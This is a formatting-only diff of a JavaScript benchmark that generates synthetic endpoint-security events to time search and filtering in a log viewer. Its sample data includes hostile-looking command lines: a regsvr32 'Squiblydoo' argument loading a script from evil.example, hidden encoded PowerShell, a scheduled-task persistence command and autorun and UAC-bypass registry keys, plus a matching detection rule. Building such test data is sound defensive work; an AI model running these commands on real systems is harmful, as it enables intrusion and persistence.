@@ -23,9 +23,31 @@ const IMAGES = [
 	'/usr/sbin/sshd',
 	'/usr/bin/curl',
 ];
-const ARGS = ['-k netsvcs -p -s Schedule', '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', '/c whoami /all', '/s /n /u /i:http://evil.example/a.sct scrobj.dll', 'shell32.dll,Control_RunDLL', '--type=renderer --lang=en-US', '/create /tn Updater /tr C:\\Users\\Public\\u.exe', '-c "id; uname -a"', 'https://updates.example.com/pkg.tar.gz'];
-const DOMAINS = ['dns.google', 'outlook.office365.com', 'login.microsoftonline.com', 'updates.example.com', 'evil.example', 'github.com', 'clients2.google.com'];
-const KEYS = ['HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command', 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend'];
+const ARGS = [
+	'-k netsvcs -p -s Schedule',
+	'-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
+	'/c whoami /all',
+	'/s /n /u /i:http://evil.example/a.sct scrobj.dll',
+	'shell32.dll,Control_RunDLL',
+	'--type=renderer --lang=en-US',
+	'/create /tn Updater /tr C:\\Users\\Public\\u.exe',
+	'-c "id; uname -a"',
+	'https://updates.example.com/pkg.tar.gz',
+];
+const DOMAINS = [
+	'dns.google',
+	'outlook.office365.com',
+	'login.microsoftonline.com',
+	'updates.example.com',
+	'evil.example',
+	'github.com',
+	'clients2.google.com',
+];
+const KEYS = [
+	'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
+	'HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command',
+	'HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend',
+];
 const USERS = ['alice', 'bob', 'NT AUTHORITY\\SYSTEM', 'carol', 'svc_backup', 'root'];
 const CATS = [
 	['Process Creation', 'process'],
@@ -61,7 +83,11 @@ function makeEvents(count, {seed = 1, startSeq = 1, now = Date.now()} = {}) {
 			target.dns = {query: pick(DOMAINS), answers: '8.8.8.8'};
 			summary = `${image.split(/[\\/]/).pop()} resolved ${target.dns.query}`;
 		} else if (family === 'network') {
-			target.network = {dstIp: `10.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}.7`, dstPort: 443, direction: 'outgoing'};
+			target.network = {
+				dstIp: `10.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}.7`,
+				dstPort: 443,
+				direction: 'outgoing',
+			};
 			summary = `${image.split(/[\\/]/).pop()} -> ${target.network.dstIp}:443`;
 		} else if (family === 'registry') {
 			target.registry = {key: pick(KEYS), value: 'Updater', data: 'C:\\Users\\Public\\u.exe'};
@@ -75,7 +101,21 @@ function makeEvents(count, {seed = 1, startSeq = 1, now = Date.now()} = {}) {
 		}
 		const hits =
 			image.endsWith('regsvr32.exe') && r() < 0.5
-				? [{id: 'c0a7d0b8-regsvr32', title: 'Regsvr32 Squiblydoo', level: 'high', tags: ['attack.defense-evasion', 'attack.t1218.010'], fields: [{field: 'CommandLine|contains', value: cmd, spans: [[cmd.indexOf('scrobj'), cmd.indexOf('scrobj') + 6]]}]}]
+				? [
+						{
+							id: 'c0a7d0b8-regsvr32',
+							title: 'Regsvr32 Squiblydoo',
+							level: 'high',
+							tags: ['attack.defense-evasion', 'attack.t1218.010'],
+							fields: [
+								{
+									field: 'CommandLine|contains',
+									value: cmd,
+									spans: [[cmd.indexOf('scrobj'), cmd.indexOf('scrobj') + 6]],
+								},
+							],
+						},
+					]
 				: [];
 		const time = now - Math.floor(r() * 4000);
 		out[i] = {
@@ -85,7 +125,13 @@ function makeEvents(count, {seed = 1, startSeq = 1, now = Date.now()} = {}) {
 			format: 's1-dv',
 			time,
 			receivedAt: now,
-			kafka: {topic: 'dv', partition: i % 3, offset: String(startSeq + i), timestamp: time + 300, timestampType: 'CreateTime'},
+			kafka: {
+				topic: 'dv',
+				partition: i % 3,
+				offset: String(startSeq + i),
+				timestamp: time + 300,
+				timestampType: 'CreateTime',
+			},
 			host,
 			os: image.startsWith('/') ? 'linux' : 'windows',
 			user,
@@ -121,7 +167,12 @@ function median(fn) {
 	times.sort((a, b) => a - b);
 	return [times[Math.floor(times.length / 2)], r, times.at(-1)];
 }
-const filterOf = (text, extra = {}) => ({hiddenCategories: new Set(), hitsOnly: false, query: text ? parseQuery(text) : undefined, ...extra});
+const filterOf = (text, extra = {}) => ({
+	hiddenCategories: new Set(),
+	hitsOnly: false,
+	query: text ? parseQuery(text) : undefined,
+	...extra,
+});
 
 console.log(`view bench: ${N} events, node ${process.version}, median of ${RUNS} runs (max in brackets)`);
 const events = makeEvents(N, {seed: 7});
@@ -135,10 +186,25 @@ const events = makeEvents(N, {seed: 7});
 }
 
 // In the app the view warms projections as snapshots arrive; from then on searches are warm.
-const queries = ['regsvr32', 'regsrv32', 'powershel', 'outlok', 'updater alice', 'evil.exmple scrobj', 'zzzqqq', 'host:ws01 user:alice', 'cat:dns level>=high', 'cat:reg -user:system', 'cmd.exe', 'image:cmd.exe'];
+const queries = [
+	'regsvr32',
+	'regsrv32',
+	'powershel',
+	'outlok',
+	'updater alice',
+	'evil.exmple scrobj',
+	'zzzqqq',
+	'host:ws01 user:alice',
+	'cat:dns level>=high',
+	'cat:reg -user:system',
+	'cmd.exe',
+	'image:cmd.exe',
+];
 for (const q of queries) {
 	const [t, r, max] = median(() => new FilteredView({warm: false}).update(events, filterOf(q)));
-	console.log(`search warm ${JSON.stringify(q).padEnd(24)} ${ms(t).padStart(10)} (${ms(max)}) -> ${r.visible.length} visible${r.fuzzyLimited ? ', fuzzy check limited to newest candidates' : ''}`);
+	console.log(
+		`search warm ${JSON.stringify(q).padEnd(24)} ${ms(t).padStart(10)} (${ms(max)}) -> ${r.visible.length} visible${r.fuzzyLimited ? ', fuzzy check limited to newest candidates' : ''}`,
+	);
 }
 
 // Incremental: a search is active, the store publishes a new buffer with 5,000 more events (and
@@ -157,7 +223,9 @@ for (const q of ['regsrv32', 'updater alice']) {
 		visible = r.visible.length;
 	}
 	times.sort((a, b) => a - b);
-	console.log(`incremental: +${APPEND} new / -${APPEND} evicted with ${JSON.stringify(q)} active: ${ms(times[2])} -> ${visible} visible`);
+	console.log(
+		`incremental: +${APPEND} new / -${APPEND} evicted with ${JSON.stringify(q)} active: ${ms(times[2])} -> ${visible} visible`,
+	);
 }
 
 // Same buffer, same filter: must be the same object, no work.
@@ -172,10 +240,14 @@ for (const q of ['regsrv32', 'updater alice']) {
 // Category toggles: hide a family, show it again (no query).
 {
 	const hidden = new Set(['DNS', 'TCPv4 Connection', 'TCPv4 Listen', 'HTTP Request']);
-	const [t1, r1] = median(() => new FilteredView({warm: false}).update(events, filterOf('', {hiddenCategories: hidden})));
+	const [t1, r1] = median(() =>
+		new FilteredView({warm: false}).update(events, filterOf('', {hiddenCategories: hidden})),
+	);
 	const [t2, r2] = median(() => new FilteredView({warm: false}).update(events, filterOf('', {hitsOnly: true})));
 	const [t3, r3] = median(() => new FilteredView({warm: false}).update(events, filterOf('')));
-	console.log(`category toggle (hide network): ${ms(t1)} -> ${r1.visible.length}; hits-only: ${ms(t2)} -> ${r2.visible.length}; show all: ${ms(t3)} -> ${r3.visible.length}`);
+	console.log(
+		`category toggle (hide network): ${ms(t1)} -> ${r1.visible.length}; hits-only: ${ms(t2)} -> ${r2.visible.length}; show all: ${ms(t3)} -> ${r3.visible.length}`,
+	);
 }
 
 // Window maths for every key press: trivial, but measured.
@@ -200,15 +272,31 @@ for (const q of ['regsrv32', 'updater alice']) {
 	const {generateDemoRecords} = await import('../dist/source/core/demo/index.js');
 	const {engine} = loadRules([], {builtin: true});
 	const pool = [];
-	const sink = createPipeline({decode: r => decodeRecord(r), evaluate: ev => engine.evaluate(ev)}, {events: e => pool.push(...e), skipped() {}, status() {}, end() {}});
+	const sink = createPipeline(
+		{decode: r => decodeRecord(r), evaluate: ev => engine.evaluate(ev)},
+		{events: e => pool.push(...e), skipped() {}, status() {}, end() {}},
+	);
 	sink.records(generateDemoRecords(5000, {seed: 1}));
 	const demo = [];
 	for (let i = 0; i < N; i++) demo.push({...pool[i % pool.length], seq: i + 1});
 	const warmer = new FilteredView();
 	for (let i = 0; i * 5000 < N + 5000; i++) warmer.update(demo.slice(0, N - i), filterOf(''));
-	const searches = ['regsvr32', 'host:WS-FIN-04 powershell', 'chrme', 'zzzqqq', 'cmd.exe', '"cmd.exe"', 'image:cmd.exe', '10.0.0.5', 'cat:nonsense', '/reg(svr|add)32/'];
+	const searches = [
+		'regsvr32',
+		'host:WS-FIN-04 powershell',
+		'chrme',
+		'zzzqqq',
+		'cmd.exe',
+		'"cmd.exe"',
+		'image:cmd.exe',
+		'10.0.0.5',
+		'cat:nonsense',
+		'/reg(svr|add)32/',
+	];
 	for (const q of searches) {
 		const [t, r, max] = median(() => new FilteredView({warm: false}).update(demo, filterOf(q)));
-		console.log(`demo events, search warm ${JSON.stringify(q).padEnd(28)} ${ms(t).padStart(10)} (${ms(max)}) -> ${r.visible.length} visible`);
+		console.log(
+			`demo events, search warm ${JSON.stringify(q).padEnd(28)} ${ms(t).padStart(10)} (${ms(max)}) -> ${r.visible.length} visible`,
+		);
 	}
 }
